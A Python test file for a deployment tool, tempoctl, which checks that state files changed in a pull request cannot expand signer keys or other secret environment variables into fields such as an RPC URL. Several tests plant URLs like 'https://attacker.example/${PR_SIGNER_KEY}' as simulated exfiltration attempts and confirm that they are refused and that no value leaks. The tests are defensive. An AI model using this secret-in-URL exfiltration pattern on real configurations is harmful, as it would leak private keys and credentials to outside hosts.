"""The trusted base (DESIGN §8, issue 10 item 3) decides which environment variables state files may expand.

Attacks, each on a real git repository: a PR-style state file expands a signer's key variable into an RPC URL
(refused with and without --trusted-base, nothing is sent to the URL's host, the value is never printed); a
PR expands another variable into a field the base does not use it in (refused under --trusted-base); a PR
adds its own `variables:` declaration (ignored: it is read from the base). And messages about an expanded
scalar show `${VAR}`, never the value."""

from __future__ import annotations

import http.server
import subprocess
import threading
from collections.abc import Iterator
from pathlib import Path

import pytest
from click.testing import CliRunner

from tempoctl.cli import main
from tempoctl.desired import load_environment
from tempoctl.desired.trusted import TrustedBase
from tempoctl.errors import ConfigError, ValidationError
from tests.support.anvil import DEV_KEYS
from tests.test_desired_support import make_env

SECRET = DEV_KEYS[5]
MARKER = "apikey-7c1d0e5f9a"


def _git(repo: Path, *args: str) -> str:
    return subprocess.run(["git", "-C", str(repo), *args], check=True, capture_output=True, text=True).stdout


@pytest.fixture
def repo(tmp_path: Path) -> Path:
    """A repository whose `main` holds the example environment as state/env."""
    root = tmp_path / "repo"
    (root / "state").mkdir(parents=True)
    make_env(root / "state")  # -> state/env
    _git(root, "init", "-q", "-b", "main")
    _git(root, "-c", "user.email=t@example.invalid", "-c", "user.name=t", "add", "-A")
    _git(root, "-c", "user.email=t@example.invalid", "-c", "user.name=t", "commit", "-qm", "base")
    return root


def _edit(folder: Path, name: str, old: str, new: str) -> None:
    p = folder / name
    text = p.read_text()
    assert old in text, (old, name)
    p.write_text(text.replace(old, new, 1))


def _errors(folder: Path, environ: dict[str, str], trusted: str | None = None) -> list[str]:
    with pytest.raises(ValidationError) as info:
        load_environment(folder, environ=environ, cwd=folder.parent.parent, trusted=trusted)
    return [d.render() for d in info.value.diagnostics]


def _add_signer_key(folder: Path) -> None:
    _edit(folder, "environment.yaml", "signers:\n", "signers:\n  pr_signer: {network: tempo, address: "
          '"0x5b891B43c5a555Cd37FD93892c8990F4b2Eb3E71", key: env:PR_SIGNER_KEY}\n')


def _add_env_file_secret(folder: Path) -> None:
    _edit(folder, "hosts.yaml", 'POLL_INTERVAL: "2"', 'POLL_INTERVAL: "2"\n          APP_SECRET: {secret: env:APP_SECRET}')


# (variable, how the state files name it, its value): a hex key is also caught by the value scan, an
# env-file secret or the keystore password only by the rule that such variables never expand elsewhere.
SECRET_VARS = [("PR_SIGNER_KEY", _add_signer_key, SECRET, "signers.pr_signer.key: env:PR_SIGNER_KEY"),
               ("APP_SECRET", _add_env_file_secret, "app-secret-" + MARKER,
                "hosts.vault-1.env_files./home/tempovault/tempovault/.env.values.APP_SECRET.secret: env:APP_SECRET"),
               ("TEMPOCTL_KEYSTORE_PASSWORD", lambda folder: None, "keystore-pw-" + MARKER,
                "TEMPOCTL_KEYSTORE_PASSWORD holds a secret tempoctl reads itself")]


@pytest.mark.parametrize(("var", "declare", "value", "named"), SECRET_VARS, ids=[v[0] for v in SECRET_VARS])
def test_secret_variable_never_expands_into_another_field(repo: Path, var: str, declare, value: str,  # type: ignore[no-untyped-def]
                                                          named: str) -> None:
    env = repo / "state" / "env"
    declare(env)
    _edit(env, "environment.yaml", "${TEMPO_RPC_URL:-https://rpc.moderato.tempo.xyz}",
          f"https://attacker.example/${{{var}}}")
    for trusted in (None, "main"):
        errs = "\n".join(_errors(env, {var: value}, trusted))
        assert f"networks.tempo.rpc_url: ${{{var}}} cannot be expanded into networks.tempo.rpc_url" in errs
        assert named in errs
        assert value not in errs and value[2:] not in errs


def test_signer_variable_refused_even_with_a_default(repo: Path) -> None:
    env = repo / "state" / "env"
    _add_signer_key(env)
    _edit(env, "environment.yaml", "${TEMPO_RPC_URL:-https://rpc.moderato.tempo.xyz}",
          "https://attacker.example/${PR_SIGNER_KEY:-x}")
    assert any("cannot be expanded" in e for e in _errors(env, {"PR_SIGNER_KEY": SECRET}))


def test_base_signer_variable_stays_secret_when_the_pr_drops_the_signer(repo: Path) -> None:
    """The PR removes the signer that names the variable, then uses the variable: the base still names it."""
    env = repo / "state" / "env"
    _add_signer_key(env)
    _git(repo, "-c", "user.email=t@e.invalid", "-c", "user.name=t", "commit", "-qam", "signer")
    _edit(env, "environment.yaml", "key: env:PR_SIGNER_KEY", "key: env:SOMETHING_ELSE")
    _edit(env, "environment.yaml", "${TEMPO_RPC_URL:-https://rpc.moderato.tempo.xyz}",
          "https://attacker.example/${PR_SIGNER_KEY}")
    errs = "\n".join(_errors(env, {"PR_SIGNER_KEY": SECRET}, "main"))
    assert "${PR_SIGNER_KEY} cannot be expanded" in errs and SECRET not in errs


def test_new_variable_in_a_field_the_base_does_not_use_it_in(repo: Path) -> None:
    env = repo / "state" / "env"
    _edit(env, "backups.yaml", "destination: /backup", "destination: /backup/${OTHER}")
    environ = {"OTHER": MARKER}
    assert load_environment(env, environ=environ, cwd=repo).state.backups["tempovault-db"].destination \
        == f"/backup/{MARKER}"  # an operator's own checkout trusts its files
    errs = "\n".join(_errors(env, environ, "main"))
    assert ("backups.tempovault-db.destination: ${OTHER} may not be expanded into "
            "backups.tempovault-db.destination under the trusted base main") in errs
    assert MARKER not in errs


def test_variable_the_base_uses_elsewhere_is_refused_here(repo: Path) -> None:
    env = repo / "state" / "env"
    _edit(env, "backups.yaml", "destination: /backup", "destination: /backup/${TEMPO_RPC_URL}")
    errs = _errors(env, {"TEMPO_RPC_URL": f"https://rpc.example/{MARKER}"}, "main")
    assert any("${TEMPO_RPC_URL} may not be expanded" in e for e in errs)


def test_a_soft_refusal_takes_the_default_without_reading(repo: Path) -> None:
    env = repo / "state" / "env"
    _edit(env, "backups.yaml", "destination: /backup", "destination: /backup/${OTHER:-plain}")
    loaded = load_environment(env, environ={"OTHER": MARKER}, cwd=repo, trusted="main")
    assert loaded.state.backups["tempovault-db"].destination == "/backup/plain"


def test_existing_uses_keep_working_under_the_base(repo: Path) -> None:
    env = repo / "state" / "env"
    loaded = load_environment(env, environ={"TEMPO_RPC_URL": "http://127.0.0.1:9"}, cwd=repo, trusted="main")
    assert loaded.state.networks["tempo"].rpc_url == "http://127.0.0.1:9"
    assert loaded.trusted is not None and loaded.trusted.ref == "main"
    assert loaded.trusted.commit == _git(repo, "rev-parse", "main").strip()
    assert loaded.trusted.declares("hosts", "vault-1") and not loaded.trusted.declares("hosts", "pr-host")


def test_declaration_is_read_from_the_base_not_the_pr(repo: Path) -> None:
    env = repo / "state" / "env"
    _edit(env, "backups.yaml", "destination: /backup", "destination: /backup/${BACKUP_SUFFIX}")
    _edit(env, "environment.yaml", "signers:\n", "variables:\n  BACKUP_SUFFIX: [backups.*.destination]\nsigners:\n")
    environ = {"BACKUP_SUFFIX": "daily"}
    assert any("${BACKUP_SUFFIX} may not be expanded" in e for e in _errors(env, environ, "main"))
    _git(repo, "-c", "user.email=t@e.invalid", "-c", "user.name=t", "commit", "-qam", "declare BACKUP_SUFFIX")
    loaded = load_environment(env, environ=environ, cwd=repo, trusted="main")
    assert loaded.state.backups["tempovault-db"].destination == "/backup/daily"


def test_environment_new_in_the_pr_takes_only_defaults(repo: Path) -> None:
    new = repo / "state" / "fresh"
    (repo / "state" / "env").rename(new)  # absent at main under this name
    _edit(new, "environment.yaml", "environment: env", "environment: fresh")
    loaded = load_environment(new, environ={"TEMPO_RPC_URL": "http://127.0.0.1:9"}, cwd=repo, trusted="main")
    assert loaded.state.networks["tempo"].rpc_url == "https://rpc.moderato.tempo.xyz"
    base = TrustedBase.from_git("main", new)
    assert not base.exists and not base.allows_expansion("TEMPO_RPC_URL", ("networks", "tempo", "rpc_url"))
    _edit(new, "backups.yaml", "destination: /backup", "destination: /backup/${OTHER}")
    assert any("${OTHER} may not be expanded" in e for e in _errors(new, {"OTHER": MARKER}, "main"))


def test_unknown_ref_and_no_repository_are_clear_errors(repo: Path, tmp_path: Path) -> None:
    with pytest.raises(ConfigError, match="--trusted-base nope: no such commit"):
        load_environment(repo / "state" / "env", environ={}, cwd=repo, trusted="nope")
    outside = make_env(tmp_path / "elsewhere")
    with pytest.raises(ConfigError, match="not inside a git repository"):
        load_environment(outside, environ={}, cwd=tmp_path, trusted="main")


def test_expanded_values_are_shown_as_their_template(tmp_path: Path) -> None:
    env = make_env(tmp_path, [("environment.yaml", "chain_id: 42431", "chain_id: ${RPC}")])
    errs = _errors(env, {"RPC": f"https://rpc.example/{MARKER}"})
    assert any("networks.tempo.chain_id: expected an integer, got ${RPC}" in e for e in errs), errs
    assert all(MARKER not in e for e in errs)


def test_expanded_values_hidden_in_semantic_messages(tmp_path: Path) -> None:
    env = make_env(tmp_path, [("tempovault.yaml", "network: tempo", "network: ${NET}")])
    errs = _errors(env, {"NET": f"net-{MARKER}"})
    assert errs and all(MARKER not in e for e in errs), errs


class _Recorder(http.server.BaseHTTPRequestHandler):
    seen: list[str] = []

    def do_POST(self) -> None:  # noqa: N802 - http.server's name
        _Recorder.seen.append(self.path)
        self.send_response(500)
        self.end_headers()

    def log_message(self, *args: object) -> None:
        pass


@pytest.fixture
def listener() -> Iterator[str]:
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), _Recorder)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    _Recorder.seen = []
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}"
    finally:
        server.shutdown()


@pytest.mark.parametrize("command", ["validate", "plan", "drift"])
def test_cli_pr_state_file_cannot_send_a_secret(repo: Path, listener: str, command: str,
                                                monkeypatch: pytest.MonkeyPatch) -> None:
    env = repo / "state" / "env"
    _add_env_file_secret(env)
    _git(repo, "-c", "user.email=t@e.invalid", "-c", "user.name=t", "commit", "-qam", "env-file secret")
    _edit(env, "environment.yaml", "${TEMPO_RPC_URL:-https://rpc.moderato.tempo.xyz}",
          f"{listener}/${{APP_SECRET}}")
    monkeypatch.chdir(repo)
    for args in (["--no-color", command, "--trusted-base", "main", "env"], ["--no-color", command, "env"]):
        r = CliRunner().invoke(main, args, env={"APP_SECRET": MARKER, "HOME": str(repo.parent / "home")})
        assert r.exit_code == 1, r.output
        out = r.output + (r.stderr if r.stderr_bytes is not None else "")
        assert "${APP_SECRET} cannot be expanded" in out
        assert MARKER not in out
    assert _Recorder.seen == []
    assert _Recorder.seen == []


def test_cli_unknown_ref_is_a_clear_error(repo: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(repo)
    r = CliRunner().invoke(main, ["validate", "--trusted-base", "no-such-branch", "env"])
    assert r.exit_code == 1 and "--trusted-base no-such-branch: no such commit" in r.output
    assert "Traceback" not in r.output


def test_short_expanded_values_hidden_in_their_own_errors(tmp_path: Path) -> None:
    env = make_env(tmp_path, [("backups.yaml", "max_age: 26h", "max_age: ${AGE}")])
    errs = _errors(env, {"AGE": "26hrs"})
    assert any("backups.tempovault-db.max_age:" in e and "${AGE}" in e for e in errs), errs
    assert all("26hrs" not in e for e in errs)


def test_base_is_read_for_a_folder_with_a_non_ascii_name(tmp_path: Path) -> None:
    """git quotes such names in plain ls-tree output; the base must still find its files."""
    root = tmp_path / "repo"
    (root / "state").mkdir(parents=True)
    (make_env(root / "state")).rename(root / "state" / "café")
    _git(root, "init", "-q", "-b", "main")
    _git(root, "add", "-A")
    _git(root, "-c", "user.email=t@e.invalid", "-c", "user.name=t", "commit", "-qm", "base")
    base = TrustedBase.from_git("main", root / "state" / "café")
    assert base.exists and ("TEMPO_RPC_URL", "networks.tempo.rpc_url") in base.uses
